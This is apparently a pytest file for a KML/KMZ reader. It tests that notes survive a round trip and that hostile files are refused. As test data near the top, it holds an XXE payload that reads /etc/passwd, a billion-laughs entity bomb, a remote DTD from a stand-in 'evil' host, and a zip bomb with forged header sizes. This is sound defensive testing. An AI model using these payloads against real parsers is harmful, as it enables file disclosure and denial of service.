"""Notes come back word for word, and files that may be attacks are not read at all."""

import re
import struct
import tempfile
import tracemalloc
import zipfile
import zlib
from html import escape
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from aoi.outputs.kml import document_of
from aoi.outputs.kml_read import read_kml
from aoi.outputs.leaving import Level
from aoi.outputs.levels import cut
from geo.errors import InputError
from tests.aoi.outputs.test_levels import YES, found

XXE = """<?xml version="1.0"?><!DOCTYPE kml [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<kml xmlns="http://www.opengis.net/kml/2.2"><Document><name>&x;</name></Document></kml>"""
LAUGHS = (
    """<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><kml>&b;</kml>"""
)
REMOTE = """<!DOCTYPE kml SYSTEM "http://198.51.100.7/evil.dtd"><kml/>"""


@pytest.mark.parametrize("text", [XXE, LAUGHS, REMOTE])
def test_entities_and_document_types_are_refused(tmp_path, text):
    (tmp_path / "x.kml").write_text(text)
    with pytest.raises(InputError, match="attacks are made of"):
        read_kml(tmp_path / "x.kml")


def test_a_bomb_in_a_kmz_is_refused_whatever_its_header_claims(tmp_path, monkeypatch):
    monkeypatch.setattr("aoi.outputs.kml_safe.LARGEST", 1 << 20)
    path = tmp_path / "x.kmz"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as bundle:
        bundle.writestr("doc.kml", b" " * (8 << 20))
    assert path.stat().st_size < 20_000
    tracemalloc.start()
    with pytest.raises(InputError, match="no map of ours"):
        read_kml(path)
    assert tracemalloc.get_traced_memory()[1] < 4 << 20  # it never unpacked the rest
    tracemalloc.stop()
    raw = bytearray(path.read_bytes())
    small = struct.pack("<I", 10)
    for magic, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = raw.index(magic)
        raw[start + at : start + at + 4] = small
    path.write_bytes(bytes(raw))
    with pytest.raises(InputError):
        read_kml(path)


def test_too_many_files_too_deep_or_no_kml_at_all_are_refused(tmp_path, monkeypatch):
    with zipfile.ZipFile(tmp_path / "a.kmz", "w") as bundle:
        bundle.writestr("x.txt", "hello")
    with pytest.raises(InputError, match="holds no KML"):
        read_kml(tmp_path / "a.kmz")
    monkeypatch.setattr("aoi.outputs.kml_safe.MEMBERS", 0)
    with pytest.raises(InputError, match="more than 0 files"):
        read_kml(tmp_path / "a.kmz")
    (tmp_path / "b.kml").write_text("<kml>" + "<Folder>" * 200 + "</Folder>" * 200 + "</kml>")
    with pytest.raises(InputError, match="nested"):
        read_kml(tmp_path / "b.kml")
    (tmp_path / "c.kmz").write_bytes(b"PK\x03\x04" + zlib.compress(b"x"))
    with pytest.raises(InputError, match="damaged"):
        read_kml(tmp_path / "c.kmz")
    (tmp_path / "d.kml").write_bytes(b"\xff\xfe\x00rubbish")
    with pytest.raises(InputError, match="not KML"):
        read_kml(tmp_path / "d.kml")


NOTES = st.lists(
    st.sampled_from(
        ["\n", "\n\n", "\r\n", "\r", " ", "\t", "\u00a0", "\u2028", "<", "< 5", ">", "<b>",
         "&", "&lt;", "&amp;amp;", "note:", "verdict: no", "Seen: ", "ទីតាំង", "a", "B",
         "\x00", "\x1f"]
    ),
    max_size=9,
).map("".join)  # fmt: skip
"""What people paste into a note."""


def written(*notes):
    """A document whose first layout and first change have these notes."""
    run = found(notes=[notes[0], *"bcd"])
    run.layers["changes"]["verdict_note"] = [notes[-1], None]
    return document_of(cut(run, Level.INTERNAL), pictures=False).decode()


def returned(text):
    """What comes back of a document: its rows by name, and how they were written."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder, "x.kml")
        path.write_text(text, "utf-8", newline="")
        back = read_kml(path)
    return {row.id: row for row in back.rows}, back.base


@given(note=NOTES)
@settings(max_examples=60, deadline=None)
def test_a_note_that_nobody_edited_is_no_edit_whatever_is_in_it(note):
    rows, base = returned(written(note))
    for name in (YES, "x-1"):
        assert rows[name].words.get("note", base[name]["note"]) == base[name]["note"]


@given(note=NOTES)
@settings(max_examples=60, deadline=None)
def test_a_note_is_read_whole_from_a_description_alone(note):
    text = written(note)
    _, base = returned(text)
    rows, _ = returned(re.sub(r'<Data name="note">.*?</Data>', "", text, flags=re.DOTALL))
    for name in (YES, "x-1"):
        assert rows[name].words["note"] == base[name]["note"]


def test_words_added_to_the_second_paragraph_of_a_note_leave_the_first_alone():
    text = written("a gap < 5 m\n\na school")
    rows, _ = returned(text.replace("a school\n", "a school, shut &lt; 2020\n"))
    for name in (YES, "x-1"):
        assert rows[name].words["note"] == "a gap < 5 m\n\na school, shut < 2020"


def test_a_paragraph_taken_out_of_a_note_is_an_edit():
    rows, _ = returned(written("a gap\n\na school").replace("\n\u00a0\n\u00a0a school\n", "\n"))
    assert rows[YES].words["note"] == rows["x-1"].words["note"] == "a gap"


@pytest.mark.parametrize(
    "note", ["First look.\n\nSecond look.", "gap <5 m, wall> 3 m", "A &amp; B", "a\nnote: b"]
)
def test_a_note_in_a_file_of_an_older_stockade_is_known_again(note):
    inside = re.compile(r"(?<=note: )A MARK")
    text = inside.sub(lambda _: escape(note), written("A MARK").replace(
        "<value>A MARK</value>", f"<value>{escape(note)}</value>"))  # fmt: skip
    rows, base = returned(text)
    assert base[YES]["note"] == base["x-1"]["note"] == note
    assert "note" not in rows[YES].words
    assert "note" not in rows["x-1"].words
    typed, _ = returned(text.replace("verdict: \n", "verdict: cannot tell\n"))
    assert typed[YES].words == {"verdict": "cannot_tell"}


def test_a_note_whose_letters_changed_in_size_only_is_an_edit():
    rows, _ = returned(written("north gate").replace("note: north", "note: North"))
    assert rows[YES].words["note"] == "North gate"
